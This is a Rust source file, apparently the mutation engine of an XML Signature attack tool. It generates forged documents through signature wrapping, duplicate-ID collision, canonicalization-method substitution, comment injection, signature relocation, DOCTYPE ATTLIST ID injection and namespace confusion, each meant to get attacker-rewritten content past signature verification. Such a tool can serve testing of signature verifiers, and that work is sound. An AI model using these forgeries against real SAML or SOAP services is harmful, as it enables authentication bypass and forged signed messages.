#![forbid(unsafe_code)]

//! The mutation engine.
//!
//! Every mutation starts from a deep copy of the input; the input is never
//! touched. The signed target of a Signature is the element its first
//! resolvable same-document Reference points at. A forged payload is a
//! copy of that target without Signature descendants, its text rewritten by
//! the configured [`PayloadRewrite`](crate::payload::PayloadRewrite).

use crate::candidate::Mutation;
use crate::config::AttackConfig;
use crate::forge::Forgery;
use crate::payload;
use crate::strategy::{IdCollisionVariant, MutationStrategy, RelocationVariant, WrapperPlacement};
use sigwrap_c14n::C14nMode;
use sigwrap_core::{ns, Error};
use sigwrap_dsig::{Signature, VerifyContext};
use sigwrap_transforms::{referenced_id, resolve_uri};
use sigwrap_xml::{Document, Element, IdAttributes, IdResolution, NodePath, QName, XmlNode};
use std::collections::BTreeMap;

#[derive(Debug, thiserror::Error)]
pub enum MutationError {
    #[error("no reference resolves to an element: {0}")]
    NoTarget(String),
    #[error("{strategy} does not apply: {reason}")]
    NotApplicable {
        strategy: MutationStrategy,
        reason: String,
    },
    #[error("{forgery} forgery does not apply: {reason}")]
    Unforgeable { forgery: Forgery, reason: String },
    #[error(transparent)]
    Xml(#[from] Error),
}

/// The element a Signature protects.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SignedTarget {
    pub path: NodePath,
    /// The ID the Reference names; `None` for whole-document references.
    pub id: Option<String>,
}

/// Resolve the first Reference of `signature` that yields a node set.
/// Whole-document references target the document element.
pub fn signed_target(
    doc: &Document,
    signature: &Signature,
    ctx: &VerifyContext,
) -> Result<SignedTarget, MutationError> {
    let mut failures = Vec::new();
    for reference in &signature.signed_info.references {
        match resolve_uri(doc, &reference.uri, &ctx.id_attrs, ctx.id_resolution) {
            Ok(set) => {
                return Ok(SignedTarget {
                    path: set.apex().cloned().unwrap_or_else(|| doc.root_path()),
                    id: referenced_id(&reference.uri).map(str::to_owned),
                })
            }
            Err(e) => failures.push(e.to_string()),
        }
    }
    Err(MutationError::NoTarget(failures.join("; ")))
}

/// Apply `strategy` to a copy of `doc`.
pub fn generate(
    doc: &Document,
    signature: &Signature,
    strategy: MutationStrategy,
    config: &AttackConfig,
) -> Result<Mutation, MutationError> {
    let target = signed_target(doc, signature, &config.verify)?;
    let route = consumer_route(doc, &target.path);
    let mut genuine = element_at(doc, &target.path)?.clone();
    strip_signatures(&mut genuine);

    let mut out = doc.clone();
    let not_applicable = |reason: &str| MutationError::NotApplicable {
        strategy,
        reason: reason.to_owned(),
    };
    match strategy {
        MutationStrategy::Wrapping { placement } => {
            wrap(&mut out, &target, placement, config).map_err(|e| e.into_error(not_applicable))?
        }
        MutationStrategy::IdCollision { variant } => {
            collide(&mut out, &target, variant, config).map_err(|e| e.into_error(not_applicable))?
        }
        MutationStrategy::AlgorithmSubstitution { to } => {
            substitute(&mut out, signature, to).map_err(|e| e.into_error(not_applicable))?
        }
        MutationStrategy::CommentInjection => {
            inject_comments(&mut out, &target).map_err(|e| e.into_error(not_applicable))?
        }
        MutationStrategy::SignatureRelocation { variant } => {
            relocate(&mut out, signature, &target, variant, config)
                .map_err(|e| e.into_error(not_applicable))?
        }
        MutationStrategy::DoctypeIdInjection => {
            inject_attlist(&mut out, signature, &target, config).map_err(|e| e.into_error(not_applicable))?
        }
        MutationStrategy::NamespaceConfusion => {
            conceal(&mut out, signature, &target, config).map_err(|e| e.into_error(not_applicable))?
        }
    }

    let divergence = match follow(&out, &route).and_then(|p| out.element(&p)) {
        Some(seen) => {
            let mut seen = seen.clone();
            strip_signatures(&mut seen);
            payload::divergence(&genuine, &seen)
        }
        None => payload::leaf_texts(&genuine).len(),
    };
    tracing::debug!(%strategy, divergence, "built mutation");

    Ok(Mutation {
        document: out,
        strategy,
        signature: signature.path.clone(),
        divergence,
    })
}

/// Failure inside one strategy: either it does not fit this document or
/// the tree edit failed.
enum StepError {
    Skip(&'static str),
    Xml(Error),
}

impl From<Error> for StepError {
    fn from(e: Error) -> Self {
        StepError::Xml(e)
    }
}

impl StepError {
    fn into_error(self, skip: impl Fn(&str) -> MutationError) -> MutationError {
        match self {
            StepError::Skip(reason) => skip(reason),
            StepError::Xml(e) => MutationError::Xml(e),
        }
    }
}

type Step = Result<(), StepError>;

fn wrap(doc: &mut Document, target: &SignedTarget, placement: WrapperPlacement, config: &AttackConfig) -> Step {
    let genuine = element_at(doc, &target.path)?.clone();
    let mut forged = forged_copy(&genuine, true, config);

    match placement {
        WrapperPlacement::WrapperInForged => {
            let wrapper = wrapper(forged.name.prefix.as_deref(), &config.wrapper_name, genuine);
            forged.children.push(XmlNode::Element(wrapper));
            doc.replace(&target.path, XmlNode::Element(forged))?;
        }
        WrapperPlacement::ForgedThenWrapper | WrapperPlacement::WrapperThenForged => {
            let (parent, index) = parent_and_index(doc, &target.path)
                .ok_or(StepError::Skip("the target is the document element"))?;
            let prefix = element_at(doc, &parent)?.name.prefix.clone();
            let wrapper = XmlNode::Element(wrapper(prefix.as_deref(), &config.wrapper_name, genuine));
            let forged = XmlNode::Element(forged);
            let (first, second) = match placement {
                WrapperPlacement::ForgedThenWrapper => (forged, wrapper),
                _ => (wrapper, forged),
            };
            doc.replace(&target.path, first)?;
            doc.insert(&parent, index + 1, second)?;
        }
    }
    Ok(())
}

fn wrapper(prefix: Option<&str>, local: &str, genuine: Element) -> Element {
    let mut wrapper = Element::new(QName::prefixed(prefix, local));
    wrapper.children.push(XmlNode::Element(genuine));
    wrapper
}

fn collide(doc: &mut Document, target: &SignedTarget, variant: IdCollisionVariant, config: &AttackConfig) -> Step {
    let id = target
        .id
        .as_deref()
        .ok_or(StepError::Skip("the reference does not name an ID"))?;
    let (parent, index) = parent_and_index(doc, &target.path)
        .ok_or(StepError::Skip("the target is the document element"))?;
    // The forged sibling goes where the verifier's policy will not pick it.
    let insert_at = match config.verify.id_resolution {
        IdResolution::FirstMatch => index + 1,
        IdResolution::LastMatch => index,
        IdResolution::Strict => return Err(StepError::Skip("strict ID resolution rejects duplicates")),
    };

    let genuine = element_at(doc, &target.path)?;
    let mut forged = forged_copy(genuine, false, config);
    if variant == IdCollisionVariant::AttributePollution {
        let attr = genuine
            .attributes
            .iter()
            .find(|a| config.verify.id_attrs.is_id_attribute(a) && a.value == id)
            .ok_or(StepError::Skip("the target does not carry the ID itself"))?;
        let local = attr.name.local.clone();
        let prefix = genuine.name.prefix.clone().unwrap_or_else(|| "xml".to_owned());
        forged.set_attribute(&format!("{prefix}:{local}"), id);
        forged.set_attribute(&local, id);
    }
    doc.insert(&parent, insert_at, XmlNode::Element(forged))?;
    Ok(())
}

fn substitute(doc: &mut Document, signature: &Signature, to: C14nMode) -> Step {
    let si = &signature.signed_info;
    if si.c14n_mode == to {
        return Err(StepError::Skip("SignedInfo already uses this method"));
    }
    let index = element_at(doc, &si.path)?
        .position_of_child(ns::DSIG, ns::node::CANONICALIZATION_METHOD)
        .ok_or(StepError::Skip("SignedInfo has no CanonicalizationMethod"))?;
    doc.update_element(&si.path.child(index), |method| {
        method.set_attribute(ns::attr::ALGORITHM, to.uri());
        if !to.is_exclusive() {
            method.children.retain(|c| {
                !c.as_element()
                    .is_some_and(|e| e.name.is(ns::EXC_C14N, ns::node::INCLUSIVE_NAMESPACES))
            });
        }
    })?;
    Ok(())
}

fn inject_comments(doc: &mut Document, target: &SignedTarget) -> Step {
    let split = doc.update_element(&target.path, split_texts)?;
    if split == 0 {
        return Err(StepError::Skip("no text inside the target"));
    }
    Ok(())
}

/// Split every non-blank text node at its middle character with an empty
/// comment. Signature subtrees are left alone.
fn split_texts(el: &mut Element) -> usize {
    let mut count = 0;
    let mut children = Vec::with_capacity(el.children.len());
    for child in std::mem::take(&mut el.children) {
        match child {
            XmlNode::Text(t) if !t.trim().is_empty() => {
                let mid = t
                    .char_indices()
                    .nth(t.chars().count() / 2)
                    .map_or(t.len(), |(i, _)| i);
                let (left, right) = t.split_at(mid);
                if !left.is_empty() {
                    children.push(XmlNode::Text(left.to_owned()));
                }
                children.push(XmlNode::Comment(String::new()));
                if !right.is_empty() {
                    children.push(XmlNode::Text(right.to_owned()));
                }
                count += 1;
            }
            XmlNode::Element(mut e) => {
                if !is_signature(&e) {
                    count += split_texts(&mut e);
                }
                children.push(XmlNode::Element(e));
            }
            other => children.push(other),
        }
    }
    el.children = children;
    count
}

fn relocate(
    doc: &mut Document,
    signature: &Signature,
    target: &SignedTarget,
    variant: RelocationVariant,
    config: &AttackConfig,
) -> Step {
    let sig_path = &signature.path;
    let root = doc.root_path();
    if *sig_path == root {
        return Err(StepError::Skip("the signature is the document element"));
    }
    match variant {
        RelocationVariant::ToRoot => {
            if sig_path.parent().as_ref() == Some(&root) && sig_path.last_index() == Some(0) {
                return Err(StepError::Skip("the signature is already the first child"));
            }
            let root_scope = doc.root_element().in_scope().clone();
            let XmlNode::Element(mut sig_el) = doc.remove(sig_path)? else {
                return Err(StepError::Skip("no signature element"));
            };
            carry_namespaces(&mut sig_el, &root_scope);
            doc.insert(&root, 0, XmlNode::Element(sig_el))?;
        }
        RelocationVariant::IntoObject => {
            if sig_path.is_ancestor_or_self_of(&target.path) {
                return Err(StepError::Skip("the target lies inside the signature"));
            }
            let original = element_at(doc, &target.path)?.clone();
            let forged = forged_copy(&original, true, config);
            let mut genuine = original;
            strip_signatures(&mut genuine);

            let mut sig_el = element_at(doc, sig_path)?.clone();
            carry_namespaces(&mut genuine, sig_el.in_scope());
            let mut object = Element::new(QName::prefixed(sig_el.name.prefix.as_deref(), ns::node::OBJECT));
            object.children.push(XmlNode::Element(genuine));
            sig_el.children.push(XmlNode::Element(object));

            if target.path.is_ancestor_or_self_of(sig_path) {
                // The signature travels with the forged copy.
                let rel = &sig_path.indices()[target.path.indices().len()..];
                let mut forged = forged;
                match rel {
                    [index] => {
                        let at = (*index).min(forged.children.len());
                        forged.children.insert(at, XmlNode::Element(sig_el));
                    }
                    _ => forged.children.push(XmlNode::Element(sig_el)),
                }
                doc.replace(&target.path, XmlNode::Element(forged))?;
            } else {
                doc.replace(sig_path, XmlNode::Element(sig_el))?;
                doc.replace(&target.path, XmlNode::Element(forged))?;
            }
        }
    }
    Ok(())
}

/// Namespace URI a naive parser takes from `xml:xmlns` on the concealing
/// element: one character away from XML-DSig.
pub const VOID_NAMESPACE: &str = "http://www.w3.org/2000/09/xmldsig_#";

fn inject_attlist(doc: &mut Document, signature: &Signature, target: &SignedTarget, config: &AttackConfig) -> Step {
    let id = target
        .id
        .as_deref()
        .ok_or(StepError::Skip("the reference does not name an ID"))?;
    let genuine = element_at(doc, &target.path)?;
    let id_attr = genuine
        .attributes
        .iter()
        .find(|a| config.verify.id_attrs.is_id_attribute(a) && a.value == id)
        .map(|a| a.name.qualified())
        .ok_or(StepError::Skip("the target does not carry the ID itself"))?;
    let forged_name = genuine.name.qualified();

    // The genuine target leaves the consumer's path; the signature keeps
    // covering it.
    if target.path.is_ancestor_or_self_of(&signature.path) {
        wrap(doc, target, WrapperPlacement::WrapperInForged, config)?;
    } else {
        relocate(doc, signature, target, RelocationVariant::IntoObject, config)?;
    }

    let attlist = format!("<!ATTLIST {forged_name} {id_attr} CDATA #FIXED \"{id}\">");
    doc.doctype = Some(match doc.doctype.take() {
        Some(existing) => match existing.rfind(']') {
            Some(end) => format!("{}{attlist}\n{}", &existing[..end], &existing[end..]),
            None => format!("{existing} [\n{attlist}\n]"),
        },
        None => format!("{} [\n{attlist}\n]", doc.root_element().name.qualified()),
    });
    Ok(())
}

fn conceal(doc: &mut Document, signature: &Signature, target: &SignedTarget, config: &AttackConfig) -> Step {
    let original = element_at(doc, &target.path)?.clone();
    let forged = forged_copy(&original, true, config);
    let detached = !target.path.is_ancestor_or_self_of(&signature.path)
        && !signature.path.is_ancestor_or_self_of(&target.path);

    let host = match parent_and_index(doc, &target.path) {
        Some((parent, _)) => parent,
        None => target.path.clone(),
    };
    let host_el = element_at(doc, &host)?;
    let mut hidden_scope = if host == target.path {
        forged.in_scope().clone()
    } else {
        host_el.in_scope().clone()
    };
    hidden_scope.insert(String::new(), ns::DSIG.to_owned());
    let prefix = host_el.name.prefix.clone();

    let mut genuine = original;
    carry_namespaces(&mut genuine, &hidden_scope);
    let mut conceal = Element::new(QName::local("Conceal"));
    conceal.set_attribute("xml:xmlns", VOID_NAMESPACE);
    conceal.children.push(XmlNode::Element(genuine));
    if detached {
        let mut sig_el = element_at(doc, &signature.path)?.clone();
        carry_namespaces(&mut sig_el, &hidden_scope);
        conceal.children.push(XmlNode::Element(sig_el));
    }
    let mut reveal = Element::new(QName::local("Reveal"));
    reveal.declare_namespace(None, ns::DSIG);
    reveal.children.push(XmlNode::Element(conceal));
    let mut wrapper = Element::new(QName::prefixed(prefix.as_deref(), &config.wrapper_name));
    wrapper.children.push(XmlNode::Element(reveal));

    let target_path = if detached {
        doc.remove(&signature.path)?;
        shifted_by_removal(&target.path, &signature.path)
    } else {
        target.path.clone()
    };
    match parent_and_index(doc, &target_path) {
        Some((parent, index)) => {
            doc.replace(&target_path, XmlNode::Element(forged))?;
            doc.insert(&parent, index + 1, XmlNode::Element(wrapper))?;
        }
        None => {
            let mut forged = forged;
            forged.children.push(XmlNode::Element(wrapper));
            doc.replace(&target_path, XmlNode::Element(forged))?;
        }
    }
    Ok(())
}

/// Copy of a target with Signature descendants removed, ID attributes
/// dropped when `drop_ids`, and the payload rewrite applied.
fn forged_copy(target: &Element, drop_ids: bool, config: &AttackConfig) -> Element {
    let mut forged = target.clone();
    strip_signatures(&mut forged);
    if drop_ids {
        strip_ids(&mut forged, &config.verify.id_attrs);
    }
    config.payload.apply(&mut forged);
    forged
}

fn is_signature(el: &Element) -> bool {
    el.name.is(ns::DSIG, ns::node::SIGNATURE)
}

fn strip_signatures(el: &mut Element) {
    el.children
        .retain(|c| !c.as_element().is_some_and(is_signature));
    for child in &mut el.children {
        if let XmlNode::Element(e) = child {
            strip_signatures(e);
        }
    }
}

fn strip_ids(el: &mut Element, id_attrs: &IdAttributes) {
    el.attributes.retain(|a| !id_attrs.is_id_attribute(a));
    for child in &mut el.children {
        if let XmlNode::Element(e) = child {
            strip_ids(e, id_attrs);
        }
    }
}

/// Declare on `el` every binding it relies on that `destination` lacks.
fn carry_namespaces(el: &mut Element, destination: &BTreeMap<String, String>) {
    let missing: Vec<(String, String)> = el
        .in_scope()
        .iter()
        .filter(|(prefix, uri)| destination.get(*prefix) != Some(*uri))
        .map(|(p, u)| (p.clone(), u.clone()))
        .collect();
    for (prefix, uri) in missing {
        let prefix = (!prefix.is_empty()).then_some(prefix.as_str());
        el.declare_namespace(prefix, &uri);
    }
    if !el.in_scope().contains_key("") && destination.contains_key("") {
        el.declare_namespace(None, "");
    }
}

/// `path` as it reads once the node at `removed`, not one of its
/// ancestors, is detached.
fn shifted_by_removal(path: &NodePath, removed: &NodePath) -> NodePath {
    let (r, p) = (removed.indices(), path.indices());
    let mut out = p.to_vec();
    if let Some((last, parent)) = r.split_last() {
        let depth = parent.len();
        if depth < p.len() && p[..depth] == *parent && *last < p[depth] {
            out[depth] -= 1;
        }
    }
    NodePath::from_indices(out)
}

fn element_at<'a>(doc: &'a Document, path: &NodePath) -> Result<&'a Element, Error> {
    doc.element(path)
        .ok_or_else(|| Error::XmlStructure(format!("no element at {path}")))
}

/// Parent element path and child index, unless `path` is the root.
fn parent_and_index(doc: &Document, path: &NodePath) -> Option<(NodePath, usize)> {
    let parent = path.parent()?;
    doc.element(&parent)?;
    Some((parent, path.last_index()?))
}

/// Names from the document element down to `path`: the steps a consumer
/// that selects by position (`/Envelope/Body`) follows.
fn consumer_route(doc: &Document, path: &NodePath) -> Vec<(String, String)> {
    let indices = path.indices();
    (1..=indices.len())
        .filter_map(|k| doc.element(&NodePath::from_indices(indices[..k].to_vec())))
        .map(|el| (el.name.namespace_uri().to_owned(), el.name.local.clone()))
        .collect()
}

/// The element a positional consumer reads: the first child with each
/// route name in turn.
fn follow(doc: &Document, route: &[(String, String)]) -> Option<NodePath> {
    let ((root_ns, root_local), rest) = route.split_first()?;
    if !doc.root_element().name.is(root_ns, root_local) {
        return None;
    }
    let mut path = doc.root_path();
    for (ns_uri, local) in rest {
        let index = doc.element(&path)?.position_of_child(ns_uri, local)?;
        path = path.child(index);
    }
    Some(path)
}
